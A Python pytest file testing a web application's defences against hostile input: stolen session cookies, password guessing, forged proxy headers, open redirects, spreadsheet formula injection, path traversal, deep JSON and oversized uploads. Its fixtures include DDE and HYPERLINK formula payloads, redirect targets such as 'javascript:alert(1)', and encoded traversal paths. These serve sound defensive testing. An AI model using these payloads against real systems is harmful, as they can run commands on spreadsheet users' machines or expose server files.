"""Hostile input (issue 15): replayed cookies after their session ended, guessing passwords, forged
X-Forwarded-For, weak passwords, open redirects, framing, formula and control-character payloads in
every download, path traversal, deep JSON, odd file names, a full disk. Real components throughout:
the site through TestClient, the CLI in-process or as a process, files read back with openpyxl and
python-docx."""

from __future__ import annotations

import csv
import errno
import io
import itertools
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from govmedia.core.errors import UserError
from govmedia.ingest.upload import receive_upload
from govmedia.store import transaction
from govmedia.store.users import add_user, check_password, end_sessions, set_active, set_password, set_role
from govmedia.web import create_app
from govmedia.web.security import safe_next, scope_client

from test_web_api import basic, sign_in
from util import PASSWORD, cli, make_store, run_cli
from web_fixtures import POSTS

NEW_PASSWORD = "another horse battery"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
# Names that a spreadsheet would run, and one with control characters XML cannot hold.
HOSTILE_ACCOUNTS = [
    ("weibo", "A", FORMULA, "district", 1200000),
    ("weibo", "B", "+cmd|' /C calc'!A0", "district", 5000),
    ("weibo", "L", "@SUM(1+1)*cmd|' /C calc'!A0", "livelihood", None),
    ("wechat", "W", "-2+3\x0b竖排\x00\x1f\x7f制表", "comprehensive", None),
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    return make_store(tmp_path / "hostile.duckdb", accounts=HOSTILE_ACCOUNTS, posts=POSTS,
                      score=("2020-02", "2020-03"), users=True, password=PASSWORD)


@pytest.fixture
def hostile(hostile_db):
    app = create_app(hostile_db, secret="test-secret")
    with TestClient(app) as c:
        yield c


def write_unit(client):
    return client.app.state.store.write(data=False)


# ------------------------------------------------------------------------------ sessions


def _revoke_by_logout(client, db, cookie):
    other = TestClient(client.app)  # the same cookie in a second browser signs out there
    other.cookies.set("govmedia_session", cookie)
    token = re.search(r'name="csrf_token" value="([^"]+)"', other.get("/data").text).group(1)
    assert other.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303


def _revoke_by_role(client, db, cookie):
    with write_unit(client) as con:
        set_role(con, "editor1", "viewer", actor="admin1")


def _revoke_by_password(client, db, cookie):
    with write_unit(client) as con:
        set_password(con, "editor1", NEW_PASSWORD, actor="admin1")


def _revoke_by_deactivation(client, db, cookie):
    assert cli("users", "deactivate", "editor1", db=db).exit_code == 0


def _revoke_by_admin(client, db, cookie):
    result = run_cli("users", "end-sessions", "editor1", db=db)  # another process: the site learns of it
    assert result.returncode == 0 and "已结束用户 editor1 的所有会话" in result.stdout


def _revoke_by_readding(client, db, cookie):
    with write_unit(client) as con:
        add_user(con, "editor1", NEW_PASSWORD, "editor")


@pytest.mark.parametrize("revoke", [_revoke_by_logout, _revoke_by_role, _revoke_by_password, _revoke_by_deactivation,
                                    _revoke_by_admin, _revoke_by_readding])
def test_a_revoked_cookie_neither_writes_nor_reads(db, revoke):
    app = create_app(db, secret="test-secret", require_login=True)
    with TestClient(app) as client:
        token = sign_in(client, "editor1")
        cookie = client.cookies.get("govmedia_session")
        assert client.get("/data").status_code == 200
        assert client.get("/rankings").status_code == 200  # kept by the page cache for editors
        body = {"platform": "weibo", "account_id": "Z1", "name": "z", "category": "district"}
        revoke(client, db, cookie)

        replay = TestClient(app)  # the stolen copy of the cookie
        replay.cookies.set("govmedia_session", cookie)
        refused = replay.post("/api/v1/accounts", json=body, headers={"x-csrf-token": token})
        assert refused.status_code == 401, refused.text
        assert "登录已失效" in refused.json()["detail"] and "重新登录" in refused.json()["detail"]
        form = replay.post("/data/accounts", data={**body, "csrf_token": token}, follow_redirects=False)
        assert form.status_code in (401, 403)
        for page in ("/data", "/rankings", "/"):
            answer = replay.get(page, follow_redirects=False)
            assert answer.status_code == 303 and answer.headers["location"].startswith("/login"), page
        with app.state.store.read() as con:
            assert con.execute("SELECT count(*) FROM accounts WHERE account_id = 'Z1'").fetchall()[0][0] == 0


def test_signing_in_again_works_and_the_audit_log_names_ending_sessions(client, db):
    sign_in(client, "editor1")
    assert run_cli("users", "end-sessions", "editor1", db=db).returncode == 0
    assert client.get("/data", follow_redirects=False).status_code == 303
    sign_in(client, "editor1")  # a fresh sign-in carries the new version
    assert client.get("/data").status_code == 200
    page = TestClient(client.app).get("/audit", headers=basic("admin1")).text
    assert "结束该用户的所有会话" in page
    assert run_cli("users", "end-sessions", "nobody", db=db).returncode == 2


def test_an_admin_ends_a_user_s_sessions_from_the_users_page(db):
    app = create_app(db, secret="test-secret")
    with TestClient(app) as editor, TestClient(app) as admin:
        sign_in(editor, "editor1")
        assert editor.get("/data").status_code == 200
        assert editor.post("/users/end-sessions", data={"username": "admin1", "csrf_token": "x"}).status_code == 403
        sign_in(admin, "admin1")
        page = admin.get("/users")
        assert page.status_code == 200 and "editor1" in page.text and "结束该用户的所有会话" in page.text
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        assert admin.post("/users/end-sessions", data={"username": "editor1"}).status_code == 403  # no CSRF token
        done = admin.post("/users/end-sessions", data={"username": "editor1", "csrf_token": token})
        assert done.status_code == 200 and "已结束用户 editor1 的所有会话" in done.text
        assert editor.get("/data", follow_redirects=False).status_code == 303
        assert "结束该用户的所有会话" in admin.get("/audit").text
        off = admin.post("/users/active", data={"username": "viewer1", "active": "0", "csrf_token": token})
        assert "已停用" in off.text and "停用" in admin.get("/users").text
        assert _login(TestClient(app), "viewer1", PASSWORD).status_code == 401
        unknown = admin.post("/users/end-sessions", data={"username": "nobody", "csrf_token": token})
        assert "没有用户" in unknown.text and "govmedia" not in unknown.text.split("<main>")[-1].split("</main>")[0]


def test_a_deactivated_user_cannot_use_basic_auth_either(client):
    assert client.get("/api/v1/jobs", headers=basic("editor1")).status_code == 200
    with write_unit(client) as con:
        set_active(con, "editor1", False, actor="admin1")
    assert client.get("/api/v1/jobs", headers=basic("editor1")).status_code == 401


# ------------------------------------------------------------------------------ sign-in limits


def _login(client, user, password, **headers):
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    return client.post("/login", data={"username": user, "password": password, "csrf_token": token},
                       headers=headers, follow_redirects=False)


def test_an_account_lockout_does_not_lock_out_others_and_a_success_resets_nothing_else(client):
    for _ in range(4):
        assert _login(client, "editor1", "wrong guess").status_code == 401
    assert _login(client, "viewer1", PASSWORD).status_code == 303  # another user, same address
    assert _login(client, "editor1", "wrong guess").status_code == 401  # the 5th guess still counts
    locked = _login(client, "editor1", PASSWORD)
    assert locked.status_code == 429 and "秒后再试" in locked.text
    assert _login(client, "admin1", PASSWORD).status_code == 303  # the lockout is the account's alone
    assert TestClient(client.app).get("/api/v1/jobs", headers=basic("editor1")).status_code == 429


def test_a_client_guessing_many_accounts_is_limited(client):
    for n in range(20):
        assert _login(client, f"guess{n}", "wrong guess").status_code == 401
    assert _login(client, "viewer1", PASSWORD).status_code == 429


def test_x_forwarded_for_is_believed_only_from_trusted_proxies(db, monkeypatch):
    scope = {"client": ("10.0.0.5", 4000), "headers": [(b"x-forwarded-for", b"6.6.6.6, 1.2.3.4")]}
    monkeypatch.delenv("GOVMEDIA_TRUSTED_PROXIES", raising=False)
    assert scope_client(scope) == "10.0.0.5"
    monkeypatch.setenv("GOVMEDIA_TRUSTED_PROXIES", "10.0.0.0/8")
    assert scope_client(scope) == "1.2.3.4"  # the proxy's own entry, not what the client wrote before it
    assert scope_client({**scope, "client": ("192.0.2.1", 1)}) == "192.0.2.1"

    # Through the site: an untrusted peer cannot escape its limit by making up addresses.
    monkeypatch.delenv("GOVMEDIA_TRUSTED_PROXIES")
    app = create_app(db, secret="s")
    with TestClient(app, client=("192.0.2.9", 5000)) as client:
        for n in range(20):
            _login(client, f"guess{n}", "x", **{"X-Forwarded-For": f"198.51.100.{n}"})
        assert _login(client, "viewer1", PASSWORD, **{"X-Forwarded-For": "203.0.113.7"}).status_code == 429
    monkeypatch.setenv("GOVMEDIA_TRUSTED_PROXIES", "192.0.2.9")
    app = create_app(db, secret="s")
    with TestClient(app, client=("192.0.2.9", 5000)) as client:
        for n in range(20):
            _login(client, f"guess{n}", "x", **{"X-Forwarded-For": "198.51.100.1"})
        assert _login(client, "viewer1", PASSWORD, **{"X-Forwarded-For": "198.51.100.1"}).status_code == 429
        assert _login(client, "viewer1", PASSWORD, **{"X-Forwarded-For": "203.0.113.7"}).status_code == 303
        page = TestClient(app).get("/audit", headers=basic("admin1")).text
        assert "203.0.113.7" in page and "192.0.2.9" not in page


# ------------------------------------------------------------------------------ passwords


@pytest.mark.parametrize("weak", ["12345678", "password", "qwerty123", "admin123", "11111111", " " * 12, "Password1234",
                                  "qwertyuiop", "1qaz2wsx3edc", "aaaaaaaaaaaa", "short"])
def test_weak_passwords_are_refused_in_chinese(weak):
    with pytest.raises(UserError) as refused:
        check_password(weak, "someone")
    text = str(refused.value)
    assert "「密码」" in text and "请" in text


def test_the_cli_refuses_a_common_password_in_one_line(tmp_path):
    db = tmp_path / "users.duckdb"
    result = cli("users", "add", "alice", "--role", "editor", db=db, input="qwerty1234\n")
    assert result.exit_code == 2 and result.stderr.count("\n") == 1 and "「密码」太常见" in result.stderr
    assert cli("users", "add", "alice", "--role", "editor", db=db, input="alice\n").exit_code == 2
    assert cli("users", "add", "alice", "--role", "editor", db=db, input=NEW_PASSWORD + "\n").exit_code == 0
    check_password(PASSWORD)  # what the tests and benchmarks sign in with passes


# ------------------------------------------------------------------------------ headers, cookies, redirects


def test_security_headers_on_every_kind_of_answer(client):
    sign_in(client, "viewer1")
    for path in ("/", "/", "/rankings", "/api/v1/accounts", "/static/app.js", "/no-such-page", "/api/v1/docs",
                 "/healthz", "/login"):
        headers = client.get(path).headers
        csp = headers["content-security-policy"]
        script = re.search(r"script-src ([^;]+)", csp).group(1)
        assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, path
        assert "frame-ancestors 'none'" in csp and headers["x-frame-options"] == "DENY", path
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin", path


def test_templates_have_no_inline_script_or_handlers():
    folder = Path(__file__).parents[1] / "src" / "govmedia" / "web" / "templates"
    for template in folder.glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), template.name
        assert not re.search(r"\son[a-z]+\s*=", text), template.name
        assert "style=" not in text, template.name


def test_secure_cookie_over_https_or_when_configured(db, monkeypatch):
    monkeypatch.delenv("GOVMEDIA_SECURE_COOKIES", raising=False)
    monkeypatch.delenv("GOVMEDIA_TRUSTED_PROXIES", raising=False)
    app = create_app(db, secret="s")

    def cookie(client, **headers):
        return _login(client, "viewer1", PASSWORD, **headers).headers["set-cookie"].lower()

    with TestClient(app) as plain:
        assert "secure" not in cookie(plain)
        assert "secure" not in cookie(plain, **{"X-Forwarded-Proto": "https"})  # anyone may write that header
    with TestClient(app, base_url="https://testserver") as tls:
        assert "; secure" in cookie(tls)
    monkeypatch.setenv("GOVMEDIA_TRUSTED_PROXIES", "192.0.2.9")
    with TestClient(app, client=("192.0.2.9", 1)) as proxied:
        assert "; secure" in cookie(proxied, **{"X-Forwarded-Proto": "https"})
    monkeypatch.delenv("GOVMEDIA_TRUSTED_PROXIES")
    monkeypatch.setenv("GOVMEDIA_SECURE_COOKIES", "1")
    with TestClient(app) as configured:  # (over plain HTTP a client would not send it back)
        assert "; secure" in configured.get("/login").headers["set-cookie"].lower()


@pytest.mark.parametrize("target", ["//evil.example/x", "/\\evil.example", "https://evil.example/", "javascript:alert(1)",
                                    "/\t/evil.example", "http:/evil.example", "%2F%2Fevil.example", "", "/%0a/evil"])
def test_sign_in_leads_only_to_paths_on_the_site(client, target):
    page = client.get("/login", params={"next": target})
    assert "evil.example" not in page.text or target.startswith("/%0a")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    response = client.post("/login", data={"username": "viewer1", "password": PASSWORD, "csrf_token": token,
                                           "next": target}, follow_redirects=False)
    assert response.status_code == 303
    location = response.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\")) and "\t" not in location
    assert safe_next(target) in ("/", target) and not safe_next(target).startswith("//")


def test_sign_in_keeps_a_path_on_the_site(client):
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    response = client.post("/login", data={"username": "viewer1", "password": PASSWORD, "csrf_token": token,
                                           "next": "/rankings?platform=weibo&category=district"}, follow_redirects=False)
    assert response.headers["location"] == "/rankings?platform=weibo&category=district"


# ------------------------------------------------------------------------------ downloads


def assert_inert_csv(text: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    for cell in cells:
        assert not cell.startswith(DANGEROUS), cell
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell), cell
    return sum(cell.startswith("'") for cell in cells)


def assert_inert_xlsx(data: bytes | Path) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    quoted = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), cell.value
                    quoted += cell.value.startswith("'")
    return quoted


def test_formula_payloads_are_inert_in_every_site_download(hostile):
    period = {"from": "2020-02", "to": "2020-03"}
    ranking = hostile.get("/rankings.csv", params={"platform": "weibo", "category": "district", **period})
    assert ranking.status_code == 200 and assert_inert_csv(ranking.text) >= 2
    assert "'" + FORMULA in ranking.text.replace('""', '"')
    rows = list(csv.DictReader(io.StringIO(ranking.text.lstrip("\ufeff"))))
    assert all(float(r["score"]) == float(r["score"]) for r in rows)  # numbers stay numbers
    book = hostile.get("/rankings.xlsx", params={"platform": "weibo", "category": "district", **period})
    assert book.status_code == 200 and assert_inert_xlsx(book.content) >= 2
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert any(isinstance(c.value, float) for c in sheet["F"][1:])  # the score column is numeric

    livelihood = hostile.get("/rankings.csv", params={"platform": "weibo", "category": "livelihood", **period})
    assert assert_inert_csv(livelihood.text) >= 1

    editor = {"headers": basic("editor1")}
    started = hostile.post("/api/v1/checks", params={"at": "2020-03-08", "wait": "true"}, **editor)
    assert started.status_code == 200, started.text
    viewer = {"headers": basic("viewer1")}  # check results are for signed-in users
    check = hostile.get("/oversight.csv", params={"at": "2020-03-08"}, **viewer)
    assert check.status_code == 200 and assert_inert_csv(check.text) >= 3
    assert assert_inert_xlsx(hostile.get("/oversight.xlsx", params={"at": "2020-03-08"}, **viewer).content) >= 3

    report = hostile.get("/reports/report.xlsx", params=period, headers=basic("viewer1"))
    assert report.status_code == 200 and assert_inert_xlsx(report.content) >= 2


def test_control_characters_do_not_break_reports(hostile):
    import docx

    period = {"from": "2020-02", "to": "2020-03"}
    viewer = basic("viewer1")
    for fmt in ("docx", "pdf", "html", "xlsx"):
        for params in (period, {"from": "2020-03", "to": "2020-03"}):
            response = hostile.get(f"/reports/report.{fmt}", params=params, headers=viewer)
            assert response.status_code == 200, (fmt, response.text[:300])
            assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", response.content) if fmt == "html" else True
    document = docx.Document(io.BytesIO(hostile.get("/reports/report.docx", params=period, headers=viewer).content))
    text = "\n".join(p.text for p in document.paragraphs) + "".join(
        c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "竖排" in text and "\x0b" not in text


def test_the_cli_writes_inert_files_and_no_traceback(hostile_db, tmp_path):
    period = ["--from", "2020-02", "--to", "2020-03"]
    csv_out = cli("rank", "--platform", "weibo", "--category", "district", *period, "--format", "csv", db=hostile_db)
    assert csv_out.exit_code == 0 and assert_inert_csv(csv_out.stdout) >= 2
    xlsx = tmp_path / "rank.xlsx"
    assert cli("rank", "--platform", "wechat", "--category", "comprehensive", *period, "--format", "xlsx",
               "--out", str(xlsx), db=hostile_db).exit_code == 0
    assert assert_inert_xlsx(xlsx) >= 1
    checked = tmp_path / "check.xlsx"
    result = cli("check", "--at", "2020-03-08", "--format", "xlsx", "--out", str(checked), db=hostile_db)
    assert result.exit_code in (0, 1), result.stderr
    assert assert_inert_xlsx(checked) >= 3
    listed = cli("accounts", "list", "--format", "csv", db=hostile_db)
    assert listed.exit_code == 0 and assert_inert_csv(listed.stdout) >= 3
    report = cli("report", *period, "--out", str(tmp_path / "report"), db=hostile_db)
    assert report.exit_code == 0, report.stderr
    assert assert_inert_xlsx(tmp_path / "report" / "rankings.xlsx") >= 2
    # A real full disk: /dev/full answers every write with ENOSPC.
    full = run_cli("rank", "--platform", "weibo", "--category", "district", *period, "--format", "csv",
                   "--out", "/dev/full", db=hostile_db)
    assert full.returncode != 0 and "磁盘已满" in full.stderr and "Traceback" not in full.stderr
    assert len(full.stderr.strip().splitlines()) == 1


def test_rejects_files_are_inert(client, tmp_path):
    posts = ("平台,账号ID,内容ID,发布时间,是否原创,正文,转发,评论,点赞\n"
             '微博,A,r1,not-a-date,是,"=HYPERLINK(""http://evil.example"")",1,1,1\n'
             "微博,A,r2,2020-03-08 10:00,是,@SUM(A1),x,1,1\n"
             "微博,A,r3,2020-03-08 10:00,是,-1+1,-5,1,1\n")
    answer = client.post("/api/v1/imports", params={"wait": "true"}, headers=basic("editor1"),
                         files={"file": ("=evil.csv", posts.encode("utf-8"), "text/csv")})
    assert answer.status_code == 200, answer.text
    url = answer.json()["files"][0]["rejects_url"]
    rejects = client.get(url, headers=basic("editor1"))
    assert rejects.status_code == 200 and assert_inert_csv(rejects.content.decode("utf-8-sig")) >= 3


# ------------------------------------------------------------------------------ traversal, deep and odd input


def test_only_recorded_rejects_files_can_be_downloaded(client, db):
    beside = db.parent / "secret.csv.rejects.csv"
    beside.write_text("行号,原因\n1,secret beside the store\n", encoding="utf-8")
    posts = "平台,账号ID,内容ID,发布时间,是否原创,正文,转发,评论,点赞\n微博,A,t1,bad,是,x,1,1,1\n"
    done = client.post("/api/v1/imports", params={"wait": "true"}, headers=basic("editor1"),
                       files={"file": ("t.csv", posts.encode(), "text/csv")}).json()
    url = done["files"][0]["rejects_url"]
    upload_id = done["upload_id"]
    folder = db.parent / "uploads" / upload_id
    (folder / "planted.csv.rejects.csv").write_text("not recorded", encoding="utf-8")
    editor = basic("editor1")
    assert client.get(url, headers=editor).status_code == 200
    for path in (f"/api/v1/imports/%2e%2e/rejects/secret.csv.rejects.csv",
                 f"/api/v1/imports/..%2F/rejects/secret.csv.rejects.csv",
                 f"/api/v1/imports/{upload_id}/rejects/..%2F..%2F..%2Fsecret.csv.rejects.csv",
                 f"/api/v1/imports/{upload_id}/rejects/%2e%2e/%2e%2e/%2e%2e/secret.csv.rejects.csv",
                 f"/api/v1/imports/{upload_id}/rejects/..%5C..%5C..%5Csecret.csv.rejects.csv",
                 f"/api/v1/imports/{upload_id}/rejects/planted.csv.rejects.csv",
                 f"/api/v1/imports/{upload_id}/rejects/{str(beside)}"):
        answer = client.get(path, headers=editor)
        assert answer.status_code == 404, path
        assert "secret beside" not in answer.text and "not recorded" not in answer.text
    assert client.get("/api/v1/imports/../rejects/secret.csv.rejects.csv", headers=editor).status_code == 404


def test_deep_or_big_json_is_refused_with_400(client):
    editor = basic("editor1")
    deep = "[" * 100_000 + "]" * 100_000
    for path in ("/api/v1/accounts", "/api/v1/cases", "/api/v1/scores"):
        answer = client.post(path, content=deep, headers={**editor, "content-type": "application/json"})
        assert answer.status_code == 400 and "嵌套" in answer.json()["detail"], path
    no_type = client.post("/api/v1/accounts", content='{"a":' * 50_000 + "1" + "}" * 50_000, headers=editor)
    assert no_type.status_code == 400
    big = client.post("/api/v1/accounts", content=b'{"x": "' + b"a" * (2 * 1024 * 1024) + b'"}',
                      headers={**editor, "content-type": "application/json"})
    assert big.status_code == 413 and "上限" in big.json()["detail"]
    # Ordinary JSON with brackets inside strings still works.
    fine = client.post("/api/v1/accounts", headers=editor,
                       json={"platform": "weibo", "account_id": "Q", "name": "[[[[{{{{" * 10, "category": "district"})
    assert fine.status_code == 200, fine.text



def test_an_uploaded_json_nested_100000_deep_is_the_file_s_error_not_a_500(client):
    """A table file nested past Python's recursion limit is that file's error in the result; the
    zip's other files import."""
    editor = basic("editor1")
    deep = "[" * 100_000 + "]" * 100_000
    alone = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                        files={"file": ("deep.json", deep.encode(), "application/json")})
    assert alone.status_code == 200, alone.text
    assert "嵌套层数过深" in alone.json()["files"][0]["error"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("crawl/deep.json", deep)
        archive.writestr("crawl/posts.csv", "平台,账号ID,内容ID,发布时间,是否原创,正文,转发,评论,点赞\n"
                                            "微博,A,d1,2020-03-09 10:00,是,新内容,1,2,3\n")
    answer = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                         files={"file": ("crawl.zip", buffer.getvalue(), "application/zip")})
    assert answer.status_code == 200, answer.text
    files = {f["path"].rsplit("/", 1)[-1]: f for f in answer.json()["files"]}
    assert "嵌套层数过深" in files["deep.json"]["error"] and "Recursion" not in answer.text
    assert files["posts.csv"]["accepted"] == 1 and answer.json()["accepted"] == 1

def test_a_long_or_odd_file_name_is_refused_with_a_message(client, db):
    editor = basic("editor1")
    posts = POSTS.encode("utf-8")
    for name in ("长" * 300 + ".csv", "a" * 300 + ".csv"):
        answer = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                             files={"file": (name, posts, "text/csv")})
        assert answer.status_code == 400, (name[:10], answer.text)
        assert "文件" in answer.json()["detail"] and "请" in answer.json()["detail"]
    token = sign_in(client, "editor1")
    page = client.post("/data/import", data={"csrf_token": token, "format": "auto", "account": ""},
                       files={"file": ("名" * 300 + ".csv", posts, "text/csv")})
    assert page.status_code == 200 and "文件名太长" in page.text
    uploads = db.parent / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())
    for name in ("bad\x00name.csv", "x\x0b.csv", "..", ".hidden"):  # what a client other than a browser may send
        with pytest.raises(UserError) as refused:
            receive_upload(uploads, name, io.BytesIO(posts))
        assert "文件名无效" in str(refused.value)


# ------------------------------------------------------------------------------ faults


def test_a_full_disk_during_an_upload_answers_in_chinese_and_the_site_carries_on(client, db, monkeypatch):
    from govmedia.ingest import upload

    real_open = Path.open

    def full_disk(self, mode="r", *args, **kwargs):
        handle = real_open(self, mode, *args, **kwargs)
        if "w" in mode and "uploads" in self.parts:
            class Full:
                def __enter__(self):
                    return self

                def __exit__(self, *exc):
                    handle.close()

                def write(self, data):
                    handle.write(data[: len(data) // 2])  # a partial file, then the disk is full
                    raise OSError(errno.ENOSPC, "No space left on device")
            return Full()
        return handle

    editor = basic("editor1")
    posts = POSTS.replace("a1,", "z1,").encode("utf-8")
    monkeypatch.setattr(upload.Path, "open", full_disk)
    answer = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                         files={"file": ("posts.csv", posts, "text/csv")})
    assert answer.status_code == 507, answer.text
    detail = answer.json()["detail"]
    assert "磁盘已满" in detail and "/" not in detail and "Errno" not in detail
    token = sign_in(client, "editor1")
    page = client.post("/data/import", data={"csrf_token": token, "format": "auto", "account": ""},
                       files={"file": ("posts.csv", posts, "text/csv")})
    assert page.status_code == 200 and "磁盘已满" in page.text
    uploads = db.parent / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())  # no partial file stays
    monkeypatch.undo()

    assert client.get("/healthz").text == "ok"
    again = TestClient(client.app).post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                        files={"file": ("posts.csv", posts, "text/csv")})
    assert again.status_code == 200 and again.json()["accepted"] >= 1  # the store is usable, no restart


def test_a_failed_store_write_answers_in_chinese_and_the_next_one_works(client, monkeypatch):
    import duckdb

    from govmedia.web import api

    def refused(con, values, actor):
        with transaction(con):  # as the real door writes: one transaction, rolled back on failure
            con.execute("INSERT INTO organizations VALUES (999, 'half-written')")
            raise duckdb.IOException('Could not write file "/secret/store.duckdb.wal": No space left on device')

    editor = basic("editor1")
    body = {"platform": "weibo", "account_id": "F", "name": "f", "category": "district"}
    monkeypatch.setattr(api, "save_account", refused)
    answer = client.post("/api/v1/accounts", json=body, headers=editor)
    assert answer.status_code == 507 and "磁盘已满" in answer.json()["detail"]
    assert "secret" not in answer.text
    monkeypatch.undo()
    assert client.post("/api/v1/accounts", json=body, headers=editor).status_code == 200
    with client.app.state.store.read() as con:
        assert con.execute("SELECT count(*) FROM organizations WHERE organization_id = 999").fetchall()[0][0] == 0


def test_healthz_reports_a_degraded_state(client, monkeypatch):
    assert client.get("/healthz").text == "ok"
    monkeypatch.setenv("GOVMEDIA_MIN_FREE_MB", str(10 ** 12))
    answer = client.get("/healthz")
    assert answer.status_code == 200 and answer.text.startswith("degraded: disk space low")


# ------------------------------------------------------------------------------ bounded resources

CHINESE = re.compile(r"[\u4e00-\u9fff]")


def assert_said(text: str, *words: str) -> None:
    """One Chinese message, naming what it should, with no server path in it."""
    assert CHINESE.search(text) and "\n" not in text.strip(), text
    assert "/tmp" not in text and "uploads" not in text and "Traceback" not in text, text
    for word in words:
        assert word in text, (word, text)


def page_message(html: str) -> str:
    return re.search(r'<p class="notice" role="alert">(.*?)</p>', html, re.S).group(1)


def _asgi(app, path: str, headers: list[tuple[bytes, bytes]], chunks) -> tuple[int, bytes, int]:
    """Call the app as a server would, the body in `chunks`; returns the status, the body and how
    many body bytes the app took."""
    import anyio

    taken = 0
    source = iter(chunks)
    answer = {"status": None, "body": b""}

    async def receive():
        nonlocal taken
        chunk = next(source, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        taken += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message):
        if message["type"] == "http.response.start":
            answer["status"] = message["status"]
        elif message["type"] == "http.response.body":
            answer["body"] += message.get("body", b"")

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "query_string": b"wait=true", "root_path": "",
             "headers": [(b"host", b"testserver"), *headers], "client": ("127.0.0.1", 5000),
             "server": ("testserver", 80)}
    anyio.run(app, scope, receive, send)
    return answer["status"], answer["body"], taken


def _multipart_start(name: str = "big.csv") -> bytes:
    return (b"--BOUNDARY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name.encode() +
            b"\"\r\nContent-Type: text/csv\r\n\r\n")


def test_an_oversized_upload_is_refused_by_its_content_length_before_a_byte_is_read(client, db, monkeypatch):
    monkeypatch.setenv("GOVMEDIA_MAX_UPLOAD_MB", "1")
    auth = [(b"authorization", basic("editor1")["Authorization"].encode()),
            (b"content-type", b"multipart/form-data; boundary=BOUNDARY")]
    status, body, taken = _asgi(client.app, "/api/v1/imports", [*auth, (b"content-length", str(500 * 1024 ** 3).encode())],
                                iter(lambda: b"x" * 65536, None))  # 500 GB declared, an endless body
    assert status == 413 and taken == 0
    import json
    assert_said(json.loads(body)["detail"], "1 MB 上限", "拆分后分批上传")

    big = POSTS.encode() + b"x" * (3 * 1024 * 1024)
    api = client.post("/api/v1/imports", params={"wait": "true"}, headers=basic("editor1"),
                      files={"file": ("big.csv", big, "text/csv")})
    assert api.status_code == 413 and api.headers["content-type"].startswith("application/json")
    assert_said(api.json()["detail"], "1 MB 上限", "拆分后分批上传")
    # Just under the body's limit but over the file's: refused by the saving code, nothing kept.
    slightly = client.post("/api/v1/imports", params={"wait": "true"}, headers=basic("editor1"),
                           files={"file": ("slightly.csv", POSTS.encode() + b"x" * (1024 * 1024), "text/csv")})
    assert slightly.status_code == 413
    assert_said(slightly.json()["detail"], "slightly.csv", "1 MB 上限", "拆分后分批上传")
    token = sign_in(client, "editor1")
    page = client.post("/data/import", data={"csrf_token": token, "format": "auto", "account": ""},
                       files={"file": ("big.csv", big, "text/csv")})
    assert page.status_code == 413 and "<html" in page.text.lower()  # the site's own error page
    assert_said(page_message(page.text), "1 MB 上限", "拆分后分批上传")
    uploads = db.parent / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())
    form = client.post("/login", data={"username": "x" * (2 * 1024 * 1024), "password": "p"})
    assert form.status_code == 413 and "表单内容超过" in page_message(form.text)
    assert client.get("/healthz").text == "ok"


def test_a_chunked_upload_is_cut_off_at_the_limit(client, db, monkeypatch):
    monkeypatch.setenv("GOVMEDIA_MAX_UPLOAD_MB", "1")
    headers = [(b"authorization", basic("editor1")["Authorization"].encode()),
               (b"content-type", b"multipart/form-data; boundary=BOUNDARY")]  # no Content-Length: chunked
    body = itertools.chain([_multipart_start()], iter(lambda: b"x" * 65536, None))
    status, answer, taken = _asgi(client.app, "/api/v1/imports", headers, body)
    import json
    assert status == 413, answer
    assert_said(json.loads(answer)["detail"], "1 MB 上限", "拆分后分批上传")
    assert 2 * 1024 * 1024 < taken <= 2 * 1024 * 1024 + 2 * 65536  # the limit and its margin, then no more
    # Through a client that streams (Transfer-Encoding: chunked), a page answers the site's error page.
    token = sign_in(client, "editor1")

    def stream():
        yield b"--BOUNDARY\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n" + token.encode() + b"\r\n"
        yield _multipart_start()
        for _ in range(64):
            yield b"y" * 65536

    page = client.post("/data/import", content=stream(),
                       headers={"content-type": "multipart/form-data; boundary=BOUNDARY"})
    assert page.status_code == 413 and "content-length" not in page.request.headers
    assert_said(page_message(page.text), "1 MB 上限")
    uploads = db.parent / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())


def _bomb(size: int = 20 * 1024 * 1024) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
